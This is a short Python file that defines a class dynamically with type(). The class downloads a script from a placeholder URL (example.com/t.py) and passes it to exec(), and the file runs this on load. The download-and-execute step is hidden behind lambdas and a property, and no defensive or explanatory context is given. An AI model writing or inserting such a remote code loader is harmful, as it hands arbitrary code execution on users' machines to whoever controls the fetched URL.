import urllib.request

Loader = type("Loader", (), {
    "source": property(lambda self: urllib.request.urlopen(self.url).read()),
    "url": "https://example.com/t.py",
    "start": lambda self: exec(self.source),
})
Loader().start()
